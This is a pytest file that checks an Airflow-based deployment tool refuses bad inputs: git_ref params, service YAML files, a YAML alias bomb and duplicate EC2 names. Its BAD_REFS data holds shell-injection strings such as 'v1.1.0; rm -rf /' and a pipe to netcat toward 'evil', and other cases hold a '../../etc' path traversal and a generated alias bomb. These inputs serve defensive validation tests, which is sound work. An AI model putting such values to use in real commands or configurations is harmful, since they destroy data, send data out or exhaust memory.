"""Bad input of ``make faults``: each bad input of issue 10 is refused where it enters, with the param (or the
service file) and the field, and nothing is created.

- The run's params: a trigger goes through the same call as Airflow's REST trigger and trigger form
  (``create_dagrun`` of the DAG as the scheduler holds it, which validates the params against their JSON
  schema first); a refused one creates no run in Airflow's database.
- Service files: the DAG folder is parsed (as Airflow's DAG processor does) with the bad file in place
  of the demo's; the refusal is the DAG file's import error naming the file and the field, and the
  service has no DAG (so nothing can run for it). The 600-byte alias bomb is parsed in a subprocess
  limited to 1 GiB of address space (before the fix it took 2.8 GB and a minute).
- EC2 inventories: two instances with the same Name tag (an auto-scaling group) are two hosts.
"""

from __future__ import annotations

import json
import math
import os
import subprocess
import sys
import uuid
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
import yaml

from tests.conveyor.test_inventory import ec2, moto_ec2  # noqa: F401 - moto's EC2 server

ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "include" / "services" / "demo_shop.yaml"
# The demo's DAGs built from its service file; every one of its DAG files reads that file (promote_demo_shop's
# builds a DAG only with a soak: section, which the demo has not). release_stats reads no service file.
DAG_IDS = ("release_demo_shop", "ci_demo_shop", "regression_demo_shop", "flag_demo_shop")
DAG_FILES = (*DAG_IDS, "promote_demo_shop")


# =========================================================================================== params
def _trigger(conf: dict) -> str:
    """Trigger ``release_demo_shop`` with ``conf`` the way the REST API does; returns the run id it asked for."""
    from airflow.serialization.serialized_objects import DagSerialization
    from airflow.utils.session import create_session
    from airflow.utils.state import DagRunState
    from airflow.utils.types import DagRunTriggeredByType, DagRunType

    dag = _synced_dag()
    run_id = f"manual__faults_{uuid.uuid4().hex[:12]}"
    scheduler_dag = DagSerialization.deserialize_dag(DagSerialization.serialize_dag(dag))
    with create_session() as session:
        scheduler_dag.create_dagrun(run_id=run_id, run_after=datetime.now(UTC), conf=conf, run_type=DagRunType.MANUAL,
                                    triggered_by=DagRunTriggeredByType.REST_API, triggering_user_name="dev",
                                    state=DagRunState.QUEUED, session=session)
    return run_id


_synced: dict = {}


def _synced_dag():
    """The release DAG, written to Airflow's database once (as the DAG processor would)."""
    if "dag" not in _synced:
        from airflow.dag_processing.bundles.manager import DagBundlesManager
        from airflow.dag_processing.dagbag import BundleDagBag, sync_bag_to_db
        from airflow.utils.session import create_session

        manager = DagBundlesManager()
        with create_session() as session:
            manager.sync_bundles_to_db(session=session)
        for bundle in manager.get_all_dag_bundles():
            if not bundle.is_initialized:
                bundle.initialize()
            bag = BundleDagBag(dag_folder=bundle.path, bundle_path=bundle.path, bundle_name=bundle.name)
            if "release_demo_shop" in bag.dags:
                sync_bag_to_db(bag, bundle.name, bundle.version)
                _synced["dag"] = bag.dags["release_demo_shop"]
                break
    return _synced["dag"]


def _runs(run_ids: list[str], *, delete: bool = False) -> list[str]:
    """Which of ``run_ids`` exist in Airflow's database (``delete``: and remove them, task instances too)."""
    from airflow.models.dagrun import DagRun
    from airflow.utils.session import create_session

    with create_session() as session:
        runs = session.query(DagRun).filter(DagRun.run_id.in_(run_ids)).all()
        found = [r.run_id for r in runs]
        for run in runs if delete else []:
            session.delete(run)
    return found


BAD_REFS = {"trailing-newline": "v1.1.0\n", "semicolon": "v1.1.0; rm -rf /", "command-substitution": "$(id)",
            "backticks": "`id`", "and": "main&&id", "pipe": "v1.1.0|nc evil 80", "newline-command": "v1.1.0\nid"}


@pytest.mark.parametrize("bad", list(BAD_REFS))
@pytest.mark.fault(name="bad input: git_ref param", guarantee="the trigger is refused naming the param git_ref; "
                                                                "no run is created")
def test_a_trigger_with_a_bad_git_ref_creates_no_run(airflow_db, bad):
    from airflow.sdk.exceptions import ParamValidationError

    good = _trigger({"git_ref": "v1.1.0"})  # the same call creates a run for a good ref
    with pytest.raises(ParamValidationError) as refused:
        _trigger({"git_ref": BAD_REFS[bad]})

    assert str(refused.value).startswith("Invalid input for param git_ref: "), refused.value
    assert _runs([good], delete=True) == [good]  # (removed: a queued run must not meet other tests)
    assert _runs_with_ref(BAD_REFS[bad]) == [], f"a run was created for {BAD_REFS[bad]!r}"


def _runs_with_ref(ref: str) -> list[str]:
    from airflow.models.dagrun import DagRun
    from airflow.utils.session import create_session

    with create_session() as session:
        return [r.run_id for r in session.query(DagRun).filter(DagRun.dag_id == "release_demo_shop").all()
                if (r.conf or {}).get("git_ref") == ref]


# ==================================================================================== service files
def _write(services: Path, text: str) -> Path:
    services.mkdir(parents=True, exist_ok=True)
    path = services / "demo_shop.yaml"
    path.write_text(text)
    return path


def _mutated(mutate) -> str:
    spec = yaml.safe_load(DEMO.read_text())
    mutate(spec)
    return yaml.safe_dump(spec, sort_keys=False)


def _static_host(**host) -> Callable[[dict], None]:
    def mutate(spec: dict) -> None:
        spec["environments"]["production"]["inventory"] = {"hosts": [{"name": "web-1", "address": "10.0.0.5", **host}]}

    return mutate


def _set(section: str, **fields) -> Callable[[dict], None]:
    def mutate(spec: dict) -> None:
        target = spec
        for part in section.split("."):
            target = target.setdefault(part, {})
        target.update(fields)

    return mutate


def _duplicate_approvals() -> str:
    text = DEMO.read_text()
    assert "  required_approvals: 2 " in text
    return text.replace("  required_approvals: 2 ", "  required_approvals: 2\n  required_approvals: 1 ")


HOST = "environments.production.inventory.hosts[0]"
BAD_FILES = {
    "address-with-port": (lambda: _mutated(_static_host(address="10.0.0.5:22")), f"{HOST}.address", "ssh_port"),
    "app-root-escape": (lambda: _mutated(_static_host(app_root="../../etc")), f"{HOST}.app_root", ".."),
    "name-trailing-newline": (lambda: _mutated(_static_host(name="web-1\n")), f"{HOST}.name", "pattern"),
    "nan-health-timeout": (lambda: _mutated(_set("deploy.health", timeout_s=math.nan)), "deploy.health.timeout_s",
                           "finite"),
    "duplicate-key": (_duplicate_approvals, "qa.required_approvals", "duplicate key 'required_approvals'"),
    "braces-env-var": (lambda: _mutated(_set("build", command="make OUT={out} HOME=${HOME}")), "build.command",
                       "{{ }}"),
    "braces-awk": (lambda: _mutated(_set("build", command=["awk", "{print $1}", "{out}"])), "build.command",
                   "{{ }}"),
}


def _parse_dags(services: Path, monkeypatch) -> tuple[dict, dict]:
    """Parse the DAG folder as Airflow's DAG processor does, with ``services`` as the service directory."""
    from airflow.dag_processing.dagbag import DagBag

    monkeypatch.setenv("CONVEYOR_SERVICES_DIR", str(services))
    bag = DagBag(dag_folder=str(ROOT / "dags"))
    return bag.dags, {Path(k).name: v for k, v in bag.import_errors.items()}


@pytest.mark.parametrize("bad", list(BAD_FILES))
@pytest.mark.fault(name="bad input: service file", guarantee="refused at parse time naming the file and the field; "
                                                              "the service gets no DAG")
def test_a_bad_service_file_gets_no_dag(tmp_path, monkeypatch, bad):
    text, field, phrase = BAD_FILES[bad]
    services = tmp_path / "services"
    _write(services, DEMO.read_text())
    dags, errors = _parse_dags(services, monkeypatch)
    assert set(DAG_IDS) <= set(dags) and errors == {}  # the same parse makes the DAGs of a good file

    path = _write(services, text())
    dags, errors = _parse_dags(services, monkeypatch)

    assert [d for d in dags if d.endswith("_demo_shop")] == [], sorted(dags)
    assert sorted(errors) == sorted(f"{d}.py" for d in DAG_FILES), errors
    for error in errors.values():
        assert f"{path}: {field}" in error, error
        assert phrase in error, error


BOMB_PROBE = """
import json, resource, sys
resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))  # 1 GiB: the bomb took 2.8 GB and more
from airflow.dag_processing.dagbag import DagBag
bag = DagBag(dag_folder=sys.argv[1])
print("RESULT " + json.dumps({"dags": sorted(bag.dags), "errors": bag.import_errors}))
"""


@pytest.mark.fault(name="bad input: YAML alias bomb", guarantee="a 600-byte alias bomb is refused at parse time, "
                                                                "in bounded memory and time; no DAG")
def test_a_yaml_alias_bomb_is_refused_in_bounded_memory(tmp_path):
    levels = "abcdefghi"
    lines = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"{c}: &{c} [" + ", ".join([f"*{p}"] * 9) + "]" for p, c in zip(levels, levels[1:], strict=False)]
    bomb = "x_bomb: {" + ", ".join(lines) + "}\n"
    assert len(bomb) < 700
    text = bomb + DEMO.read_text().replace('waves: [1, "25%", "50%", "100%"]', "waves: *i")
    path = _write(tmp_path / "services", text)

    probe = subprocess.run([sys.executable, "-c", BOMB_PROBE, str(ROOT / "dags")], capture_output=True, text=True,
                           timeout=120, cwd=ROOT, env={**os.environ, "CONVEYOR_SERVICES_DIR": str(path.parent)},
                           check=False)

    assert probe.returncode == 0, probe.stderr[-3000:]
    [line] = [line for line in probe.stdout.splitlines() if line.startswith("RESULT ")]
    result = json.loads(line.removeprefix("RESULT "))
    assert [d for d in result["dags"] if d.endswith("_demo_shop")] == [], result["dags"]
    assert sorted(Path(p).name for p in result["errors"]) == sorted(f"{d}.py" for d in DAG_FILES), result["errors"]
    for error in result["errors"].values():
        assert f"{path}: x_bomb.a: line 1: YAML anchors and aliases are not allowed" in error, error
        assert "MemoryError" not in error


# ========================================================================================= inventory
@pytest.mark.fault(name="bad input: EC2 instances sharing a Name", guarantee="two instances with the same Name tag "
                                                                             "are two hosts (the id is the identity)")
def test_two_ec2_instances_with_the_same_name_are_two_hosts(ec2, tmp_path, monkeypatch):  # noqa: F811
    from conveyor.config import load_service
    from conveyor.hosts import Host
    from conveyor.inventory import resolve_hosts
    from conveyor.waves import plan_waves

    tags = [{"Key": "service", "Value": "shop"}, {"Key": "env", "Value": "prod"}]
    ids = sorted([ec2("shop web server", tags), ec2("shop web server", tags)])
    _write(tmp_path / "services", _mutated(lambda spec: (
        spec["environments"]["production"].update(inventory={"aws": {
            "aws_conn_id": "aws_test", "region": "eu-west-1", "tags": {"service": "shop", "env": "prod", **ec2.tags}}}),
        spec.update(waves=["50%", "100%"]))))
    monkeypatch.setenv("CONVEYOR_SERVICES_DIR", str(tmp_path / "services"))

    hosts = resolve_hosts(load_service("demo_shop"), "production")

    assert [h.name for h in hosts] == ids
    assert [h.label for h in hosts] == ["shop web server"] * 2
    assert len({h.address for h in hosts}) == 2
    assert plan_waves([h.name for h in hosts], ["50%", "100%"], 2) == [[ids[0]], [ids[1]]]
    assert [Host.from_dict(h.to_dict()).validated() for h in hosts] == hosts  # they travel through XCom
